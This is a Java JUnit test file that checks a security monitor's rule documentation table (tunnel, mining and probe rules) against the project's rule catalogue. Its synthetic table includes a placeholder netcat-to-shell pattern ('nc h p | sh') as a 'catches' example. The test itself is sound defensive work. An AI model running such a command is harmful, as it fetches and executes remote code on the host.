package dev.ale.monitor.rules;

import dev.ale.core.passport.DetectorSettings;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

/** docs/monitor.md's "Every rule" table lists exactly the {@link RuleId} catalogue, with its category, severity and default action. */
class MonitorDocTest {

    private static final String HEADING = "## Every rule";

    @Test
    void theEveryRuleTableListsExactlyTheCatalogue() throws IOException {
        Path doc = monitorDoc();
        List<String> problems = differences(rows(Files.readString(doc)));
        if (!problems.isEmpty()) {
            fail(doc + " does not match RuleId (fix the doc's \"Every rule\" table or the catalogue):\n  "
                    + String.join("\n  ", problems));
        }
    }

    /** Guards the test above against passing because the comparison sees nothing. */
    @Test
    void aTableThatDropsOneRuleInventsAnotherAndMisstatesAThirdIsToldWhich() {
        StringBuilder doc = new StringBuilder("# The monitor\n\n" + HEADING + "\n\nSome words.\n\n"
                + "| rule | category | default | severity | input | catches |\n|---|---|---|---|---|---|\n");
        for (RuleId rule : RuleId.values()) {
            if (rule == RuleId.TUNNEL_NET_SSH_BANNER) continue;
            String action = DetectorSettings.defaultFor(rule.category()).action().name().toLowerCase(Locale.ROOT);
            String severity = rule.severity().name().toLowerCase(Locale.ROOT);
            if (rule == RuleId.MINING_HOST_MSR) {
                action = "alert";
                severity = "low";
            }
            doc.append("| `%s` | %s | %s | %s | command | `nc h p \\| sh` |\n".formatted(rule.id(), rule.category().wire(), action, severity));
        }
        doc.append("| `tunnel.net.telnet-banner` | tunnel | kill | critical | gateway | invented |\n");
        doc.append("| `probe.scanner` | probe | kill | high | command | again |\n");
        doc.append("\n## Known limits\n\n| a | b |\n|---|---|\n| `gpu.other` | x |\n");

        List<Row> rows = rows(doc.toString());
        assertThat(rows).hasSize(RuleId.values().length + 1);
        assertThat(differences(rows)).containsExactlyInAnyOrder(
                "missing from the doc: [tunnel.net.ssh-banner]",
                "in the doc but not in RuleId: [tunnel.net.telnet-banner]",
                "mining.host.msr: doc says default alert, catalogue kill",
                "mining.host.msr: doc says severity low, catalogue high",
                "listed more than once: [probe.scanner]");
    }

    record Row(String id, String category, String action, String severity) {
    }

    /** The rows of the first table after the "Every rule" heading. */
    static List<Row> rows(String markdown) {
        List<String> lines = markdown.lines().toList();
        int at = lines.indexOf(HEADING);
        if (at < 0) throw new AssertionError("docs/monitor.md has no line \"" + HEADING + "\"");
        int start = at + 1;
        while (start < lines.size() && !lines.get(start).startsWith("|")) {
            if (lines.get(start).startsWith("#")) throw new AssertionError("no table under \"" + HEADING + "\"");
            start++;
        }
        List<String> header = cells(lines.get(start));
        int id = column(header, "rule");
        int category = column(header, "category");
        int action = column(header, "default");
        int severity = column(header, "severity");
        List<Row> rows = new ArrayList<>();
        for (int i = start + 2; i < lines.size() && lines.get(i).startsWith("|"); i++) {
            List<String> c = cells(lines.get(i));
            rows.add(new Row(c.get(id).replace("`", ""), c.get(category), c.get(action), c.get(severity)));
        }
        return rows;
    }

    static List<String> differences(List<Row> rows) {
        List<String> problems = new ArrayList<>();
        Map<String, Row> byId = new LinkedHashMap<>();
        Set<String> twice = new LinkedHashSet<>();
        for (Row r : rows) {
            if (byId.putIfAbsent(r.id(), r) != null) twice.add(r.id());
        }
        List<String> missing = Arrays.stream(RuleId.values()).map(RuleId::id).filter(i -> !byId.containsKey(i)).toList();
        List<String> extra = byId.keySet().stream().filter(i -> RuleId.of(i).isEmpty()).toList();
        if (!missing.isEmpty()) problems.add("missing from the doc: " + missing);
        if (!extra.isEmpty()) problems.add("in the doc but not in RuleId: " + extra);
        if (!twice.isEmpty()) problems.add("listed more than once: " + twice);
        for (Row r : byId.values()) {
            RuleId.of(r.id()).ifPresent(rule -> {
                check(problems, rule, "category", r.category(), rule.category().wire());
                check(problems, rule, "default", r.action(),
                        DetectorSettings.defaultFor(rule.category()).action().name().toLowerCase(Locale.ROOT));
                check(problems, rule, "severity", r.severity(), rule.severity().name().toLowerCase(Locale.ROOT));
            });
        }
        return problems;
    }

    private static void check(List<String> problems, RuleId rule, String column, String doc, String catalogue) {
        if (!doc.equals(catalogue)) problems.add(rule.id() + ": doc says " + column + " " + doc + ", catalogue " + catalogue);
    }

    /** A table row's cells, trimmed; {@code \|} inside a cell is text, not a border. */
    private static List<String> cells(String line) {
        String inner = line.strip().replaceAll("^\\|", "").replaceAll("(?<!\\\\)\\|$", "");
        return Arrays.stream(inner.split("(?<!\\\\)\\|", -1)).map(String::strip).toList();
    }

    private static int column(List<String> header, String name) {
        int i = header.indexOf(name);
        if (i < 0) throw new AssertionError("the table under \"" + HEADING + "\" has no column \"" + name + "\": " + header);
        return i;
    }

    /** docs/monitor.md of this checkout, found from the module's directory upwards. */
    private static Path monitorDoc() {
        for (Path dir = Path.of("").toAbsolutePath(); dir != null; dir = dir.getParent()) {
            Path doc = dir.resolve("docs/monitor.md");
            if (Files.isRegularFile(doc)) return doc;
        }
        throw new AssertionError("no docs/monitor.md above " + Path.of("").toAbsolutePath());
    }
}
